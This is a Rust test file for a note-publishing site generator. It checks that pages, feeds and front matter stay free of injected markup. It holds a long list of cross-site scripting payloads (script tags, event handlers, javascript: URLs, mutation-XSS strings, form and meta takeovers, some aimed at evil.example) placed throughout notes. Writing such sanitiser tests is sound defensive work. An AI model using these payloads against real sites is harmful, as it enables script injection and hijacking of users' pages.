//! Attacks by whoever can write a note, each in every place that HTML can stand in. Pages and feeds are parsed as
//! browsers parse them, and nothing in them may run, send, fetch or leave its place.

use crate::dom::{self, Element};
use crate::harness::Project;

/// One line each, so that they fit into table cells and headings too.
const ATTACKS: &[&str] = &[
    // scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)",
    "<script/x>alert(1)</script/y>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script nonce=x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script>\"</b>\"</script\t>",
    // handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=\"x\" \u{c}onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<b OnClick='alert(1)'>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p/onpointerenter=alert(1)>x</p>",
    "<a href=/x onclick=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video onerror=alert(1)><source></video>",
    "<audio src=/x onloadstart=alert(1)></audio>",
    "<span title='x' title='y' onclick=alert(1) onclick=alert(2)>x</span>",
    "<b \"onclick=alert(1) x=\">x</b>",
    "<b title=\"a\"\"onclick=alert(1)\">x</b>",
    "<b x=`onclick=alert(1)` onclick`=alert(1)>x</b>",
    // URLs
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \t javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#x61;vascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript&#58alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href=\"blob:https://x/y\">x</a> <a href=file:///etc/passwd>x</a>",
    "<a href=javascript:alert(1) href=/x>x</a>",
    "<a ping=//evil.example href=/x>x</a>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote><q cite=data:x>y</q>",
    "<img src=javascript:alert(1)> <img src=data:image/svg+xml,x>",
    "<img src=//evil.example/x.png> <img src=https://evil.example/x.png>",
    "<img src=\\\\evil.example/x.png> <img src=/\\evil.example/x.png>",
    "<img srcset=\"//evil.example/x.png 2x\" src=/x.png>",
    "<picture><source srcset=//evil.example/x.png><img src=/x.png></picture>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</td></tr></table>",
    "<video poster=//evil.example/x.png src=//evil.example/x.mp4></video>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<input type=image src=//evil.example/x.png>",
    // elements that take the page over
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"\">",
    "<form action=//evil.example method=post><input name=x><button>y</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object><param name=src value=//evil.example></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=//evil.example></portal>",
    "<dialog open>x</dialog>",
    "<div popover id=x>y</div><button popovertarget=x>z</button>",
    // styles
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<div STYLE='position:fixed;inset:0'>x</div>",
    "<style>@import '//evil.example';</style>",
    "<style>*{display:none}",
    "<style><!--</style><script>alert(1)</script>-->",
    // other grammars
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg/onload=alert(1)/>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    // markup that changes its meaning when it is read again
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<b title=\"</title><script>alert(1)</script>\">x</b>",
    "<b title='&lt;/b&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</b>",
    "<b title=\"&quot;&gt;<img src=x onerror=alert(1)>\">x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>&#60;script>alert(1)&#60;/script></b>",
    "<template><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    "<title><b title=\"</title><script>alert(1)</script>\">",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</><script>alert(1)</script>",
    "<\0script>alert(1)</script> <b\0 onclick=alert(1)>x</b> <a href=\"java\0script:alert(1)\">x</a>",
    "<b\u{a0}onclick=alert(1)>x</b>",
    // what swallows the rest, and what ends too much
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<noscript>",
    "<noembed>",
    "<template>",
    "<select>",
    "<svg>",
    "<iframe>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<table><tr><td>",
    "<a href=/x><b><i><u><s>",
    "<div><section><article><header><footer>",
    "</div></div></div></article></main></body></html>",
    "</p></li></ul></td></tr></table></blockquote></details>",
    "<main><article><footer class=site-footer></main>",
    "<h1><table><h2></h1>",
    "<details><summary>",
    "<pre>",
    // ids and names that scripts could take for something else
    "<a id=main_ name=body_>x</a> <b id=fn_1>x</b>",
    "<img name=getElementById src=/x.png> <form id=x><input name=attributes></form>",
    "<div data-callout=x data-video=//evil.example data-src=javascript:alert(1)>x</div>",
    "<b is=x-y slot=z part=p contenteditable draggable=true accesskey=x itemprop=y>x</b>",
    // through Markdown
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) [x](data:text/html,y)",
    "[x](<java&Tab;script:alert(1)>) <javascript:alert(1)> <vbscript:x>",
    "[x](/y \"' onclick=alert(1) x='\") ![x\" onerror=\"alert(1)](https://evil.example/x.png)",
    "[<img src=x onerror=alert(1)>](https://garden.example \"<script>alert(1)</script>\")",
    "![<script>alert(1)</script>](x.png) [[x|<script>alert(1)</script>]] [[<script>alert(1)</script>]]",
    "`</code><script>alert(1)</script>` $<script>alert(1)</script>$ #<script>",
    "==<script>alert(1)</script>== ~~<img src=x onerror=alert(1)>~~ ^[<svg onload=alert(1)>]",
];

/// Those that make the rest of the note a script or a style, which is left out.
const UNCLOSED: &[&str] = &["<script>alert(1)", "<style>*{display:none}"];

/// All places for HTML in a note, with an attack in each.
fn note(attack: &str) -> String {
    let cell = attack.replace('|', "\\|");
    let places = [
        format!("{attack}\n"),
        format!("Text {attack} text.\n"),
        format!("- {attack}\n- Item {attack} item.\n  - {attack}\n"),
        format!("> {attack}\n\n> Quote {attack}\n"),
        format!("> [!note]- {attack}\n> {attack}\n"),
        format!("## Heading {attack}\n"),
        format!("| a | b |\n|---|---|\n| {cell} | c {cell} |\n"),
        format!("Foot[^1] *em {attack} em* [link {attack}](https://garden.example)\n\n[^1]: {attack}\n"),
        format!("<div>\n{attack}\n</div>\n"),
        format!("<div>\n\n{attack}\n\n</div>\n"),
        format!("- [ ] {attack}\n"),
    ];
    places.join("\nThen this is said.\n\n") + "\nThe end of the note.\n"
}

/// What is wrong with a page.
fn problems(attack: &str, page: &Element) -> Vec<String> {
    let mut problems = page.dangers();
    let mut expect = |what: &str, found: Vec<String>, expected: &[&str]| {
        if found != expected {
            problems.push(format!("{what}: {found:?}"));
        }
    };
    let labels = |element: Option<&Element>| -> Vec<String> {
        element.into_iter().flat_map(|element| &element.children).map(Element::label).collect()
    };
    let body = page.find("body");
    expect("body", labels(body), &["a.skip-link", "header.site-header", "main.page", "footer.site-footer"]);
    let main = body.and_then(|body| body.children.get(2));
    expect("main", labels(main), &["article"]);
    let article = main.and_then(|main| main.children.first());
    expect(
        "article",
        labels(article),
        &["header.page-header", "nav.outline", "div.prose", "footer.note-footer"],
    );
    let prose = article.and_then(|article| article.children.get(2));
    // CommonMark (section 4.6) takes all that follows for the content of a script.
    if UNCLOSED.contains(&attack) {
        return problems;
    }
    let said = prose.map_or(0, |prose| prose.text.matches("Then this is said.").count());
    expect("said", vec![said.to_string()], &["10"]);
    let has_end = prose.is_some_and(|prose| prose.text.contains("The end of the note."));
    expect("the end", vec![has_end.to_string()], &["true"]);
    problems
}

fn site(config: &str) -> Project {
    let config = format!(
        "base_url: https://example.org\ndefaults: {{visibility: public}}\nfeed: {{limit: 1000}}\n{config}"
    );
    let project = Project::bare().file("kb.yaml", config);
    for (number, attack) in ATTACKS.iter().enumerate() {
        // A heading of its own, so that every page has an outline.
        project.write(
            &format!("content/{number}.md"),
            format!("---\ntitle: Attack\nupdated: 2026-01-01\n---\n## One\n\n## Two\n\n{}", note(attack)),
        );
    }
    project.run(&["build"]);
    project
}

#[test]
fn no_attack_reaches_a_page_or_leaves_its_place() {
    let project = site("");
    let mut failures = Vec::new();
    for (number, attack) in ATTACKS.iter().enumerate() {
        // What hides the rest of a note by a comment that does not end is not published.
        let Ok(html) = std::fs::read_to_string(project.path().join(format!("public/{number}.html"))) else {
            assert!(attack.contains("<!--"), "{attack}");
            continue;
        };
        let problems = problems(attack, &dom::parse(&html));
        if !problems.is_empty() {
            failures.push(format!("{attack}\n  {}", problems.join("\n  ")));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn no_attack_reaches_a_feed() {
    let project = site("");
    let feed: serde_json::Value = serde_json::from_str(&project.read("public/feed.json")).expect("a feed");
    let items = feed["items"].as_array().expect("items");
    assert!(items.len() > ATTACKS.len() - 5, "{}", items.len());
    for item in items {
        let html = item["content_html"].as_str().expect("content");
        let dangers = dom::parse(html).dangers();
        let dangers: Vec<_> =
            dangers.iter().filter(|danger| !danger.contains("src=\"https://example.org/")).collect();
        assert!(dangers.is_empty(), "{dangers:?}\n{html}");
    }
}

#[test]
fn escaped_html_is_harmless_too() {
    let project = site("raw_html: escape\n");
    for (number, attack) in ATTACKS.iter().enumerate() {
        if let Ok(html) = std::fs::read_to_string(project.path().join(format!("public/{number}.html"))) {
            let problems = problems(attack, &dom::parse(&html));
            assert!(problems.is_empty(), "{attack}\n{}", problems.join("\n"));
        }
    }
}

#[test]
fn no_attack_gets_through_the_front_matter() {
    for attack in [
        "title: '<script>alert(1)</script>'",
        "title: '</title><script>alert(1)</script>'",
        "description: '\"><img src=x onerror=alert(1)>'",
        "description: '</script><script>alert(1)</script>'",
        "title: '</script><!--<script>'",
        "tags: ['<img src=x onerror=alert(1)>', 'a\" onclick=\"alert(1)']",
        "category: '\"><script>alert(1)</script>'",
        "cssclasses: ['x\" onclick=\"alert(1)', \"y'><script>\"]",
        "aliases: ['<script>alert(1)</script>', 'javascript:alert(1)']",
        "related: ['javascript:alert(1)', '[[<script>]]']",
        "image: 'javascript:alert(1)'",
        "image: 'data:text/html,x'",
        "image: 'https://evil.example/\" onload=\"alert(1)'",
        "sources: ['javascript:alert(1)']",
        "sources: [{title: '<script>alert(1)</script>', url: 'https://evil.example/\" onclick=\"alert(1)'}]",
        "sources: [{title: x, url: 'data:text/html,y'}]",
        "permalink: 'javascript:alert(1)'",
        "permalink: '/\"><script>alert(1)</script>'",
        "permalink: '//evil.example/x'",
        "slug: '\"onclick=alert(1)'",
        "status: '<script>'",
        "canonical: 'javascript:alert(1)'",
        "author: '<script>alert(1)</script>'",
        "unknown: {href: 'javascript:alert(1)'}",
    ] {
        let project = Project::new()
            .file("content/a.md", format!("---\n{attack}\n---\nText.\n"))
            .file("content/b.md", "See [[a]].\n");
        project.run(&["build"]);
        for name in project.files("public").iter().filter(|name| name.ends_with(".html")) {
            let page = dom::parse(&project.read(&format!("public/{name}")));
            // The graph is a drawing of kb's own.
            let dangers: Vec<_> = page.dangers().into_iter().filter(|danger| danger != "<svg>").collect();
            assert!(dangers.is_empty(), "{attack} in {name}: {dangers:?}");
            let body: Vec<String> =
                page.find("body").into_iter().flat_map(|body| &body.children).map(Element::label).collect();
            let is_stub = page.all().iter().any(|element| element.attribute("http-equiv").is_some());
            assert!(is_stub || body.len() == 4, "{attack} in {name}: {body:?}");
        }
    }
}
